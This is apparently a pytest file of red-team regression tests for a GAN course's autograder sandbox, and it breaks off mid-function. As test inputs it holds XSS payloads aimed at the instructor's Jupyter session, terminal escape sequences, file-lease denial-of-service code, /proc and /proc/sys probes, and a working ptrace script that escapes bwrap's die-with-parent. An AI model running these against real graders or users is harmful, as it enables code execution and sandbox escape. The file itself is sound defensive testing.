"""More red-team attacks on the grading runtime, each as cheap as possible (no whole grading run).

- Script in the feedback: the autograded notebook is shown as HTML to the instructor (nbgrader's
  formgrader, inside their logged-in Jupyter session, where a script can call Jupyter's API and
  run code as the instructor) and to the student (`nbgrader generate_feedback`). nbconvert passes
  a markdown cell's HTML through as it is, so a student's markdown cell holding a <script>, an
  onerror= handler or a javascript: link ran in the viewer's browser. `reference.grading.bridge`
  now shows such a cell as text, and leaves every other cell exactly as the student wrote it.
- Saved widget state in the notebook's metadata: nbconvert's page then loads the widget manager
  from a CDN, and it the JavaScript of any npm module the state names. Only the kernel's notebook
  metadata is kept in the autograded copy.
- A file read through a linked folder: `read_scratch_file` refused it, but only after opening it
  outside scratch (a named pipe's writer went on; a device could start). Now nothing outside
  scratch is opened.
- Escape sequences in the instructor's terminal: a worker that exits is quoted ("its last
  output: ...") in the line `gan-course autograde` prints; its control characters are now spaces.
- The host's kernel settings: bwrap 0.8 leaves /proc/sys writable, and a grader that is root maps
  the sandbox's root to its own: a submission could write kernel.core_pattern (run as root at the
  next crash). /proc/sys is now read-only in the sandbox.
- What /proc shows of the whole host: its timers (every process's name and PID), its keyrings,
  and writable pressure triggers; hidden, or read-only, in the sandbox.
- Pseudo-terminals: each counts against the host's one pty.max; the sandbox can open none.
- Images in markdown cells: one from another server told it when and from where the feedback was
  opened (the instructor's address); a data: URL or attachment could claim 50,000 x 50,000 pixels.
  A remote image is now a link, an image over an image output's limits a line saying why.
- A file name quoted by a check: its newline gave the test cell a line of the student's choosing.
- Forged replies: a nested tensor raised out of `decode`; an empty tensor of huge shape crossed in a
  few bytes and would cost the grader gigabytes once reduced. Both are refused.
- Replies that cost the grader far more than their size to unpickle: int keys sharing one hash
  (a dict of a million in 13 MB: hours), a tuple key nested through the memo (300 bytes: months),
  bytearray(n) (n bytes filled), sets/Counters/OrderedDicts built from lists, one memoised list
  walked by call after call. The pickle is followed before torch.load and such a reply refused.
- More of them, each an allowed global the unpickler calls: _codecs.encode or bytearray with the
  punycode or idna codec (quadratic: 35 KB held the grader 3 minutes); torch.Size.__new__ by NEWOBJ,
  which no budget counted (400 KB: 1.1 GB); a stored tensor or a built object passed again and again
  (now counted at its size); torch.FloatTensor(n) or UntypedStorage(n), converted by
  _rebuild_device_tensor_from_cpu_tensor (200 bytes: 8 GB touched), also through _rebuild_from_type_v2.
- A reply tensor with attributes of its own (its pickled __dict__: `mean = torch.Size` made
  `answer.mean()` return what the worker chose), backward hooks, or a Parameter: refused.
- A sandbox that outlives its grading: ptrace lets the submission make bwrap's init clear the
  parent-death signal of --die-with-parent, and the grader's kill of bwrap left the sandbox running,
  unwatched. The grader now kills that init (so the whole PID namespace) itself.
- What the graded notebook costs whoever opens it: tracebacks kept beside the 20 MB of outputs, image outputs of
  4096 x 4096 pixels by the thousand, an attachment named thousands of times in markdown (each use holds its whole
  base64), code that IPython's lexer scans again from every token and long code blocks in markdown: each bounded.
- A write lease on a file of scratch, which makes every other open of it wait 45 s: the grader does not wait.
- The configuration folders of the bound environments (Jupyter's, where nbgrader_config.py may hold the gradebook's
  password): empty in the sandbox.
"""

from __future__ import annotations

import json
import re
import textwrap
from pathlib import Path

import nbformat
import pytest

from reference.grading.bridge import fill

from sandbox_support import needs_sandbox

ATTACKS = {
    "script": "My answer. <script>fetch('/api/terminals', {method: 'POST'})</script>",
    "handler": 'An image: <img src="x" onerror="alert(document.cookie)">',
    "link": "[the derivation](javascript:alert(document.cookie))",
    "entity_in_scheme": '<a href="java&#x09;script:alert(1)">see here</a>',
    "upper_case": "<IMG SRC=JaVaScRiPt:alert(1)>",
    "iframe": '<iframe src="https://example.org"></iframe>',
    "svg": "<svg><script>alert(1)</script></svg>",
    "data_page": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "fence_in_source": "```` ``` <script>alert(1)</script>",
    "math_link": "the proof: $\\href{javascript:alert(1)}{\\text{here}}$",
    # \\href under another name (found by session 37's red team: the check read the literal name only)
    "math_link_renamed": "the proof: $\\newcommand{\\L}{\\href}\\L{javascript:alert(1)}{\\text{here}}$",
    "math_link_let": "the proof: $\\let\\L\\href \\L{javascript:alert(1)}{\\text{here}}$",
    "math_require": "the proof: $\\require{action}\\toggle{a}{b}\\endtoggle$",
    "math_style_renamed": "the loss: $\\def\\S{\\style}\\S{position:fixed; top:0}{\\text{Score: 18 / 18}}$.",
    # where Python's html.parser ends a comment or a CDATA section elsewhere than a browser does
    "cdata": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "bang_comment": "<!-- --!><img src=x onerror=alert(1)>-->",
    "abrupt_comment": "<!--><img src=x onerror=alert(1)>-->",
    "body_handler": "<body onload=alert(1)>my answer",  # a browser adds it to the page's own body
}
HONEST = [
    "**D\\*(x)** is $p_{data}(x) / (p_{data}(x) + p_g(x))$, so $D^* < 1$ and `a < b`.\n\n"
    "```python\nif a < b:\n    pass\n```\n\n> a quote\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    "<b>bold</b>, <sub>x</sub>, <img src='attachment:curve.png'>, [a paper](https://arxiv.org/abs/1406.2661), "
    "<details><summary>more</summary>hidden</details>, <img src='data:image/png;base64,iVBORw0KGgo='>",
    "# Question 1: the minimax game\n\n- [ ] a task\n- [x] done",
    "see $\\href{https://arxiv.org/abs/1406.2661}{\\text{the paper}}$",
    # definitions that rename no guarded command, as answers write them (found by session 37's review: shown as text)
    "$\\DeclareMathOperator*{\\argmax}{arg\\,max}$ and $\\newcommand{\\E}{\\mathbb{E}}\\E[x]$, `\\def` in code",
    "$\\bbox[yellow]{x}$ and $\\bbox[5px]{y}$",
    "markup Python's html.parser raised on, in code: `<![ x` and `<![foo[`",  # the whole class's merge stopped at it
]
# a real tag (in text, nbconvert writes "<" as "&lt;") that runs code, or whose attribute does
RUNS = re.compile(r"<(script|iframe|svg)|<[^>]*\s(on\w+\s*=|(href|src)\s*=\s*[\"']?\s*(java\s*script|data:text))", re.I)


def _render(nb: nbformat.NotebookNode) -> str:
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config

    body, _ = HTMLExporter(config=Config({"HTMLExporter": {"template_name": "classic"}})).from_notebook_node(nb)
    return body[body.index("<body"):]  # the page's own scripts (MathJax, require.js) sit in its head


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_a_markdown_cell_that_would_run_script_in_the_feedback_is_shown_as_text(attack: str):
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(ATTACKS[attack])]
    filled = fill(nb, {"cells": {}, "tests": {}})
    body = _render(filled)
    assert not RUNS.search(body), RUNS.search(body)
    source = filled.cells[0].source
    assert source.startswith("[The grader shows this cell as text: its HTML (")
    assert ATTACKS[attack] in source  # still readable for the hand grader


def test_honest_markdown_and_locked_cells_are_left_as_written():
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(text) for text in HONEST]
    locked = nbformat.v4.new_markdown_cell("<style>.x {}</style> the instructor's own", metadata={"nbgrader": {"locked": True}})
    nb.cells.append(locked)
    filled = fill(nb, {"cells": {}, "tests": {}})
    assert [cell.source for cell in filled.cells] == HONEST + [locked.source]


def test_markdown_that_renders_in_quadratic_time_holds_neither_the_merge_nor_the_feedback(monkeypatch):
    """mistune's time grows with the square of some markdown ("<!--" repeated: 13 s for 120 KB); a
    notebook of such cells held the merge of the whole class (the check of each markdown cell renders
    it) and every later view of the feedback for days. A long cell is never rendered, every cell once the
    notebook's markdown has taken its time is shown as text, and that text renders in linear time.
    Counted in what is rendered, on a clock of the test's, and timed only as a ratio within one run: a busy machine
    fails nothing."""
    import time
    import types

    import reference.grading.bridge as bridge

    rendered_sources = []
    render = bridge.render_markdown

    def counted(source, attachments=None):
        rendered_sources.append(source)
        return render(source, attachments)

    monkeypatch.setattr(bridge, "render_markdown", counted)
    bridge._rendered_for_checks.cache_clear()
    long_cell = "<!--" * 25_000  # 100,000 characters: about 9 s to render
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(long_cell)]
    filled = fill(nb, {"cells": {}, "tests": {}})
    assert filled.cells[0].source.startswith("[The grader shows this cell as text: at 100,000 characters")
    assert long_cell in filled.cells[0].source
    assert long_cell not in rendered_sources, "the long cell was rendered"

    # each cell's checks take 0.25 s on the grader's clock, whatever this machine's speed: the budget of 2.4 s is
    # spent after 10 cells, and the 20 after them are shown as text without being rendered
    clock = iter(range(10**6))
    monkeypatch.setattr(bridge, "time", types.SimpleNamespace(monotonic=lambda: 0.25 * next(clock)))
    monkeypatch.setattr(bridge, "MARKDOWN_BUDGET_S", 2.4, raising=False)
    nb.cells = [nbformat.v4.new_markdown_cell("<!--" * 4_000 + f" {i}") for i in range(30)]  # 16,000 characters each
    rendered_sources.clear()
    filled = fill(nb, {"cells": {}, "tests": {}})
    shown = [cell.source.startswith("[The grader shows this cell as text: this notebook's markdown took too long") for cell in filled.cells]
    assert shown == [False] * 10 + [True] * 20, shown
    assert {source.rsplit(" ", 1)[1] for source in rendered_sources} == {str(i) for i in range(10)}, "cells past the budget were rendered"
    rendered = [cell.source for cell in filled.cells]
    assert all(f" {i}\n" in text or text.endswith(f" {i}") for i, text in enumerate(rendered))
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    def seconds(text: str) -> float:
        """The best of 5 times nbconvert renders `text` for the feedback."""
        best = float("inf")
        for _ in range(5):
            began = time.perf_counter()
            markdown2html_mistune(text)
            best = min(best, time.perf_counter() - began)
        return best

    # linear in the text's length: 8 times the text takes about 8 times as long (quadratic: 64 times); the margin
    # is wide, as milliseconds measured on busy cores are (4 times the text took 10 times as long once, under load)
    one, eight = (seconds(bridge.as_text("<!--" * n, "test", bridge.TOO_SLOW)) for n in (50_000, 400_000))
    assert eight < 24 * one, f"the text of 1,600,000 characters took {eight:.4f} s to render, of 200,000 {one:.4f} s"


def test_saved_widget_state_in_the_submission_loads_no_script_into_the_feedback():
    """A notebook whose metadata holds saved widget state makes nbconvert's page (the feedback, the
    formgrader) load the widget manager from a CDN, which then loads the JavaScript of every module the
    state names: any npm package the student publishes, run in the instructor's Jupyter page. The
    autograded copy keeps only the kernel's notebook metadata."""
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("my answer")]
    state = {"m1": {"model_name": "Model", "model_module": "mallorys-widgets", "model_module_version": "1.0.0", "state": {}}}
    nb.metadata.update({
        "widgets": {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": state}},
        "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
        "language_info": {"name": "python"},
    })
    filled = fill(nb, {"cells": {}, "tests": {}})
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config

    page, _ = HTMLExporter(config=Config({"HTMLExporter": {"template_name": "classic"}})).from_notebook_node(filled)
    assert "mallorys-widgets" not in page and "html-manager" not in page
    assert set(filled.metadata) == {"kernelspec", "language_info"} and filled.metadata.kernelspec.name == "python3"


# ---------------------------------------------------------------------------------------------
# Files the grader reads from scratch: nothing outside it is ever opened
# ---------------------------------------------------------------------------------------------


def test_a_file_read_through_a_linked_folder_opens_nothing_outside_scratch(tmp_path):
    """A folder of the submission's that is a link out of scratch (planted while a check runs) must
    not lead the grader to open what is there: opening is an act of its own (a named pipe's writer
    goes on, a device starts). Here a writer waits on a named pipe outside; the read is refused,
    and the writer is still waiting, for the grader never opened the pipe."""
    import os
    import threading
    import time

    from reference.grading.checks import CheckFailure
    from reference.grading.submission import read_scratch_file

    scratch, outside = tmp_path / "scratch", tmp_path / "instructor"
    scratch.mkdir()
    outside.mkdir()
    os.mkfifo(outside / "grid.png")
    os.symlink(outside, scratch / "out")
    opened = threading.Event()

    def writer() -> None:
        with open(outside / "grid.png", "wb"):  # blocks until someone opens the pipe to read
            opened.set()

    thread = threading.Thread(target=writer, daemon=True)
    thread.start()
    time.sleep(0.5)  # the writer is waiting in open()
    try:
        for path in ("out/grid.png", scratch / "out" / "grid.png"):
            with pytest.raises(CheckFailure, match="grid.png"):
                read_scratch_file(scratch, path)
        assert not opened.wait(0.5), "the grader opened a named pipe outside scratch"
    finally:
        fd = os.open(outside / "grid.png", os.O_RDONLY | os.O_NONBLOCK)  # let the writer go
        thread.join(timeout=5)
        os.close(fd)


LEASED_CHECKPOINT = """
import fcntl, signal
with open("checkpoint.pt", "wb") as fh:
    fh.write(b"x" * 1000)
held = open("checkpoint.pt", "r+b")
signal.signal(signal.SIGIO, signal.SIG_IGN)  # told when the grader opens it, and never letting go
fcntl.fcntl(held.fileno(), fcntl.F_SETLEASE, fcntl.F_WRLCK)
print("leased")
"""


def test_a_lease_on_a_file_of_scratch_does_not_hold_the_grader_that_reads_it(tmp_path, monkeypatch):
    """A process holding a write lease (fcntl F_SETLEASE) on a file it owns makes every other open of that file wait
    until it lets go, or for the kernel's lease-break-time (45 s): a check reading 100 checkpoints would have held the
    grader 75 minutes past every time limit (its own thread, blocked in open). The grader opens files of scratch
    without waiting (O_NONBLOCK): refused at once, as a file it cannot read. The sandbox refuses leases (the next
    test), so this is shown with a plain worker, as `--no-sandbox` runs one."""
    import errno

    from reference.grading.submission import read_scratch_bytes

    def read(session):
        try:
            return read_scratch_bytes(session.scratch / "work", "checkpoint.pt")
        except OSError as err:
            return err.errno

    _, text, got = run_cell(tmp_path, monkeypatch, LEASED_CHECKPOINT, sandbox=False, during=read)
    assert "leased" in text, text
    assert got == errno.EWOULDBLOCK, got  # an open that waited would have returned the 1,000 bytes after 45 s


LEASED_SHARED_FILES = """
import fcntl, os, signal, sys
signal.signal(signal.SIGIO, signal.SIG_IGN)  # told when someone opens them, and never letting go
held = []
for path in (os.environ["GAN_COURSE_DATA"] + "/mnist/train-images.bin", {module!r}):
    fd = os.open(path, os.O_RDONLY)  # read-only, in a read-only bind: a write lease all the same
    try:
        fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
        held.append(fd)
        print("leased", path)
    except OSError as err:
        print("refused", err.errno)
"""


@needs_sandbox
@pytest.mark.skipif(__import__("reference.grading.seccomp", fromlist=["x"]).program() is None,
                    reason="no seccomp filter for this architecture")
def test_a_lease_on_a_file_every_sandbox_reads_is_refused(tmp_path, monkeypatch):
    """The data root and the Python environment are bound read-only into every sandbox, and are the grader's user's
    files: a cell leased one of each (a file of MNIST, a module of torch) and every open of them outside the sandbox,
    by the grader and by each classmate's worker (its DataLoader, its `import torch`), waited 45 s, the kernel's
    lease-break-time; a lease on every file the workers open would hold them all past their time limits. The sandbox
    refuses leases (EACCES), and the files open at once outside. (The module is one nothing imports, so that a run on
    code without the fix holds no one.)"""
    import errno
    import os

    import torch.utils

    data = tmp_path / "data"
    (data / "mnist").mkdir(parents=True)
    (data / "mnist" / "train-images.bin").write_bytes(b"\0" * 4096)
    monkeypatch.setenv("GAN_COURSE_DATA", str(data))
    module = str(Path(torch.utils.__file__).parent / "collect_env.py")

    def open_outside(session):
        found = []
        for path in (data / "mnist" / "train-images.bin", module):
            try:
                os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))  # EWOULDBLOCK where a plain open would wait 45 s
                found.append("opened")
            except OSError as err:
                found.append(errno.errorcode[err.errno])
        return found

    _, text, got = run_cell(tmp_path, monkeypatch, LEASED_SHARED_FILES.format(module=module), during=open_outside)
    assert got == ["opened", "opened"], (got, text)
    assert text.count(f"refused {errno.EACCES}") == 2, text


def test_a_check_lists_no_folder_the_submission_linked_in_place_of_the_graders(tmp_path):
    """a4's save_colour_grid is handed a path in a fresh folder of scratch; a submission that renamed that
    folder and put a link to a host folder in its place made the check list the host folder's names in
    its message ("it wrote a4_cifar10_port.ipynb": the model answers' folder). Listings of scratch now
    open every folder without following a link, so the message names nothing of the host."""
    import os
    from pathlib import Path

    import torch

    from reference.grading.local import load_checks
    from reference.grading.submission import LocalSubmission, scratch_files, scratch_listing

    root = Path(__file__).resolve().parents[1]
    saved_grid = load_checks("a4_cifar10_port", root)["test_colour_grid_png"].__globals__["saved_grid"]
    scratch, secret = tmp_path / "scratch", tmp_path / "instructor"
    scratch.mkdir()
    secret.mkdir()
    (secret / "model-answers-of-the-class.ipynb").write_text("{}")

    def save(images, path):  # the attack, as the student's function
        folder = Path(path).parent
        os.rename(folder, folder.with_name("moved"))
        os.symlink(secret, folder)

    with pytest.raises(AssertionError) as told:
        saved_grid(LocalSubmission({"save": save}, scratch=scratch), save, torch.zeros(16, 3, 32, 32))
    assert "model-answers" not in str(told.value) and "removed or replaced the folder" in str(told.value)
    os.symlink(secret, scratch / "out")
    assert scratch_listing(scratch, "out") is None and scratch_files(scratch, "out") == []
    assert all("model-answers" not in p.name for p in scratch_files(scratch))


def test_a_jpeg_of_thousands_of_scans_where_a_grid_belongs_is_refused_before_it_is_decoded(tmp_path, monkeypatch):
    """A progressive JPEG repeating one tiny scan thousands of times takes PIL about 1.4 ms a scan to
    decode (a 100 MB file: over an hour of the grader's time); a3's and a4's grid checks read only its
    header: it is no PNG. Decoding is made to fail loudly here, so the test shows it never starts."""
    import io

    from PIL import Image, ImageFile

    from reference.grading.local import load_checks

    course = __import__("pathlib").Path(__file__).resolve().parents[1]
    buffer = io.BytesIO()
    Image.new("L", (242, 242), 128).save(buffer, format="JPEG", progressive=True)

    def no_decoding(self, *args, **kwargs):
        raise RuntimeError("the grader decoded a JPEG")

    monkeypatch.setattr(ImageFile.ImageFile, "load", no_decoding)
    grid_problem = load_checks("a3_save_every_10_epochs", course)["test_sample_grids_are_png_grids_of_64"].__globals__["grid_problem"]
    assert grid_problem("10.png", buffer.getvalue()) == "`10.png` is a JPEG file; save sample grids as PNG"
    read_png = load_checks("a4_cifar10_port", course)["test_colour_grid_png"].__globals__["read_png"]
    (tmp_path / "grid.png").write_bytes(buffer.getvalue())
    with pytest.raises(AssertionError, match="the grid file is JPEG, not PNG"):
        read_png(tmp_path / "grid.png", tmp_path)


# ---------------------------------------------------------------------------------------------
# What a submission printed, in the instructor's terminal
# ---------------------------------------------------------------------------------------------

ESCAPES = "\x1b]0;owned\x07\x1b[1A\x1b[2K\ralice: 18/18\x1b[1B"  # retitle the window, rewrite the line above


def test_a_summary_line_holds_no_control_characters():
    """`gan-course autograde` prints one line a submission; a reason it was stopped may quote what
    it printed, and an escape sequence there would drive the instructor's terminal."""
    from reference.grading.command import _summary

    record = {"student": "mallory", "checks": {"c": {"earned": 0.0, "points": 2.0}}, "stopped": [f"it printed {ESCAPES}"]}
    line = _summary(record)
    assert line.startswith("mallory: 0/2 (it printed ") and line.isprintable()
    record = {"student": "mallory", "checks": {}, "failed": f"OSError: {ESCAPES}"}
    assert _summary(record).isprintable()


def run_cell(tmp_path, monkeypatch, source: str, *, sandbox: bool | None = None, during=None):
    """Run `source` as a submission's only cell in a worker (sandboxed where bubblewrap can):
    (why its worker was stopped, the cell's printed text and error, what `during(session)` returned)."""
    from conftest import attack_course
    from reference.grading.runner import session_for
    from reference.grading.sandbox import Limits, sandbox_problem

    root = attack_course(tmp_path, monkeypatch)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(source)]
    nbformat.write(nb, root / "attack.ipynb")
    sandbox = sandbox_problem() is None if sandbox is None else sandbox
    with session_for(root / "attack.ipynb", "attack", root, limits=Limits(wall_s=60, check_s=30), sandbox=sandbox) as session:
        seen = during(session) if during is not None else None
        stopped, cell = list(session.stopped), session.cells_output.get("0", {})
    error = cell.get("error") or {}
    text = "".join(out.get("text", "") for out in cell.get("outputs", [])) + f"{error.get('ename', '')}: {error.get('evalue', '')}"
    return stopped, text, seen


def graded_attack(tmp_path, monkeypatch, checks: str, cell: str) -> dict:
    """The record of `checks` (a check module's source) graded on a notebook of one code cell, `cell`, by the real
    grader, in the sandbox where it can start: {"checks": {check name: {"earned", "message", ...}}, "stopped", ...}."""
    from conftest import attack_course
    from reference.grading.runner import grade_submission
    from reference.grading.sandbox import Limits, sandbox_problem

    root = attack_course(tmp_path, monkeypatch)
    (root / "tests" / "autograders" / "test_attack.py").write_text(checks)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(cell)]
    nbformat.write(nb, root / "attack.ipynb")
    record = grade_submission(root / "attack.ipynb", "attack", root, limits=Limits(wall_s=60, check_s=30),
                              sandbox=sandbox_problem() is None)
    return record


def test_the_last_output_of_a_worker_that_exited_is_quoted_without_control_characters(tmp_path, monkeypatch):
    stopped, _, _ = run_cell(tmp_path, monkeypatch, f"import os\nos.write(2, {ESCAPES.encode()!r})\nos._exit(3)")
    assert len(stopped) == 1 and "exited (status 3)" in stopped[0] and "alice: 18/18" in stopped[0], stopped
    assert stopped[0].isprintable(), stopped


# ---------------------------------------------------------------------------------------------
# The host's kernel settings (a grader that is root maps the sandbox's root to the host's)
# ---------------------------------------------------------------------------------------------



@needs_sandbox
def test_the_kernels_global_settings_cannot_be_written_from_the_sandbox(tmp_path, monkeypatch):
    """bwrap 0.8 leaves /proc/sys writable; graded by root, a submission could set kernel.core_pattern
    (a program the kernel then runs as the host's root at the next crash). Only opened for writing
    here, nothing written. A grader that is not root passes on the old code too."""
    source = """
        import os
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sys/kernel/pid_max"):
            try:
                os.close(os.open(path, os.O_WRONLY))
                print("writable", path)
            except OSError as err:
                print("refused", path, err.strerror)
    """
    _, text, _ = run_cell(tmp_path, monkeypatch, textwrap.dedent(source))
    assert text.count("refused") == 3 and "writable" not in text, text


@needs_sandbox
def test_what_proc_shows_of_the_whole_host_is_hidden_from_the_sandbox(tmp_path, monkeypatch):
    """/proc/timer_list lists every timer of the host with its process's name and PID (what the
    classmates graded beside it are running, and when), /proc/keys the keyrings of the grader's
    user, /proc/slabinfo and /proc/vmallocinfo the kernel's allocations as the gradings beside it make
    them; /proc/pressure takes triggers the kernel keeps for the host. A grader that is root showed
    them and let the sandbox write the last."""
    source = """
        import os
        for path in ("/proc/timer_list", "/proc/keys", "/proc/key-users", "/proc/slabinfo", "/proc/vmallocinfo"):
            try:
                print(path, "holds", len(open(path).read()), "characters")
            except OSError as err:
                print(path, "refused", err.strerror)
        try:
            os.close(os.open("/proc/pressure/cpu", os.O_WRONLY))
            print("pressure writable")
        except OSError as err:
            print("pressure refused", err.strerror)
    """
    _, text, _ = run_cell(tmp_path, monkeypatch, textwrap.dedent(source))
    assert "pressure refused" in text and "writable" not in text, text
    hidden = ("/proc/timer_list", "/proc/keys", "/proc/key-users", "/proc/slabinfo", "/proc/vmallocinfo")
    assert all(f"{path} holds 0 " in text or f"{path} refused" in text for path in hidden), text


@needs_sandbox
def test_a_python_environment_made_in_the_course_folder_does_not_show_the_course_to_the_sandbox(tmp_path, monkeypatch):
    """The sandbox binds the Python installation and its environment, read-only, at their own paths. An
    instructor who made the environment in the course folder itself (`python -m venv .`) bound the whole
    course with it: hidden checks, model answers, the gradebook, every classmate's submission. The course
    folder is now an empty folder there, with only the environment's own parts bound again."""
    import reference.grading.sandbox as sandbox

    root = tmp_path / "course"  # what run_cell's attack_course makes
    (root / "submitted" / "alice").mkdir(parents=True)
    (root / "submitted" / "alice" / "answers.txt").write_text("alice's work")
    binds = sandbox._python_binds()
    monkeypatch.setattr(sandbox, "_python_binds", lambda: binds + ["--ro-bind", str(root), str(root)])  # as a prefix would
    source = f"""
        import os
        for path in ("{root}/tests/autograders/test_attack.py", "{root}/submitted/alice/answers.txt", "{root}/nbgrader_config.py"):
            try:
                print(path, "read", len(open(path).read()))
            except OSError as err:
                print(path, "refused", err.strerror)
        print("listed", os.listdir("{root}") if os.path.isdir("{root}") else None)
        try:
            open("{root}/planted.txt", "w").write("x")
            print("written")
        except OSError as err:
            print("write refused", err.strerror)
    """
    _, text, _ = run_cell(tmp_path, monkeypatch, textwrap.dedent(source))
    assert text.count("refused") == 4 and " read " not in text and "written" not in text, text


def test_a_python_environment_that_is_the_course_folder_keeps_only_its_own_parts(tmp_path):
    """`python -m venv .` in the course folder: the environment's bin/, lib/ and pyvenv.cfg are bound
    again inside the empty folder that hides the course; tests/, solutions/ and submitted/ are not."""
    from reference.grading.sandbox import bwrap_command
    import reference.grading.sandbox as sandbox

    course = tmp_path / "course"
    for part in ("bin", "lib", "tests", "solutions", "submitted"):
        (course / part).mkdir(parents=True)
    (course / "pyvenv.cfg").write_text("home = /usr/bin\n")
    scratch = tmp_path / "scratch"
    original = sandbox._python_binds
    sandbox._python_binds = lambda: ["--ro-bind", str(course), str(course), "--ro-bind", str(course / "bin"), str(course / "bin")]
    try:
        args = bwrap_command("bwrap", scratch, None, False, {}, hidden=(course,))
    finally:
        sandbox._python_binds = original
    after = args[args.index("--tmpfs", args.index(str(course))) :]
    assert after[1] == str(course)
    bound = {after[i + 2] for i, arg in enumerate(after[:-2]) if arg == "--ro-bind"}
    assert {str(course / p) for p in ("bin", "lib", "pyvenv.cfg")} <= bound
    assert not bound & {str(course / p) for p in ("tests", "solutions", "submitted")} and str(course) not in bound


@needs_sandbox
def test_the_sandbox_opens_no_pseudo_terminal(tmp_path, monkeypatch):
    """Every pseudo-terminal counts against the kernel's pty.max, one limit for the whole host (its
    logins, containers and the other sandboxes graded beside this one): a submission that opened
    thousands starved them all. None can be opened in the sandbox."""
    source = """
        import os
        try:
            os.openpty()
            print("opened a pty")
        except OSError as err:
            print("refused", err.strerror)
    """
    _, text, _ = run_cell(tmp_path, monkeypatch, textwrap.dedent(source))
    assert "refused" in text and "opened" not in text, text


# ---------------------------------------------------------------------------------------------
# A sandbox that outlives its grading
# ---------------------------------------------------------------------------------------------

MARKER = "4321.5"  # the sleep of the process that tries to outlive the sandbox: how it is found
OUTLIVE = """
    import ctypes, os, subprocess
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    NAMES = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"

    class Regs(ctypes.Structure):
        _fields_ = [(name, ctypes.c_ulonglong) for name in NAMES.split()]

    def call(pid, number, a=0, b=0):  # make the stopped tracee run one system call
        regs = Regs()
        libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
        saved = Regs.from_buffer_copy(regs)
        regs.rip -= 2  # back onto the `syscall` instruction it waits in
        regs.rax, regs.rdi, regs.rsi, regs.orig_rax = number, a, b, 2**64 - 1
        libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
        libc.ptrace(9, pid, None, None)  # PTRACE_SINGLESTEP
        os.waitpid(pid, 0x40000000)
        libc.ptrace(13, pid, None, ctypes.byref(saved))

    if libc.ptrace(16, 1, None, None) == 0:  # PTRACE_ATTACH to the sandbox's init (bwrap's)
        os.waitpid(1, 0x40000000)
        call(1, 157, 1, 0)  # prctl(PR_SET_PDEATHSIG, 0): --die-with-parent undone
        libc.ptrace(17, 1, None, None)  # PTRACE_DETACH
    subprocess.Popen(["sleep", "{marker}"], start_new_session=True)
    print("started")
"""


def _marked() -> list[int]:
    import os

    found = []
    for entry in os.listdir("/proc"):
        try:
            if entry.isdigit() and MARKER.encode() in open(f"/proc/{entry}/cmdline", "rb").read():
                found.append(int(entry))
        except OSError:
            continue
    return found


@needs_sandbox
@pytest.mark.skipif(__import__("platform").machine() != "x86_64", reason="the attack's system call numbers are x86-64's")
def test_a_sandbox_whose_init_forgot_its_parent_still_ends_with_its_grading(tmp_path, monkeypatch):
    """The submission ptraces bwrap's init (PID 1 of its namespace) and makes it clear the
    parent-death signal --die-with-parent gave it: the grader's kill of bwrap then left the whole
    sandbox running, unwatched and without limits, beside the classmates graded next."""
    import os
    import signal
    import time

    try:
        _, text, _ = run_cell(tmp_path, monkeypatch, textwrap.dedent(OUTLIVE.format(marker=MARKER)))
        assert "started" in text, text
        deadline = time.monotonic() + 120  # a bound on the wait, not a speed test: the kill lands in milliseconds
        while _marked() and time.monotonic() < deadline:
            time.sleep(0.1)
        assert _marked() == [], "a process of the sandbox outlived its grading"
    finally:
        for pid in _marked():  # what this test started, on the old code
            for parent in (int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1]), pid):
                try:
                    os.kill(parent, signal.SIGKILL)
                except OSError:
                    pass


# ---------------------------------------------------------------------------------------------
# What a check quotes of the student's answer
# ---------------------------------------------------------------------------------------------

QUOTING_CHECK = '''"""One check that quotes the answer, as a7's do ("diagnosis['run_1'] = '...' is not one of ...")."""
from reference.grading import check

ASSIGNMENT = "attack"


@check(points=1)
def test_answer(submission):
    value = submission.get("answer")
    assert value == "mode collapse", f"answer = {value!r} is not what the run shows"
'''


def test_a_check_quoting_a_huge_answer_keeps_the_record_small(tmp_path, monkeypatch):
    """A check's message may quote the student's value; an answer of megabytes was copied whole into
    the record, the results file, the graded notebook and the printed line of every such check."""
    checks = graded_attack(tmp_path, monkeypatch, QUOTING_CHECK, "answer = 'mode collapse, ' * 400_000")["checks"]
    earned, message = checks["test_answer"]["earned"], checks["test_answer"]["message"]
    assert earned == 0.0 and message.startswith("answer = 'mode collapse, mode collapse,"), message[:200]
    assert len(message) <= 2000 and message.endswith("[cut: longer than the feedback keeps]"), len(message)


# ---------------------------------------------------------------------------------------------
# Pickles the trusted side unpickles: a checkpoint in scratch, a reply of two pickles
# ---------------------------------------------------------------------------------------------


def _torch_zip(pickles: dict[str, bytes]) -> bytes:
    """torch.save's zip of {} with its data.pkl replaced, or more pickles beside it ({name: bytes})."""
    import io
    import zipfile

    import torch

    buffer = io.BytesIO()
    torch.save({}, buffer)
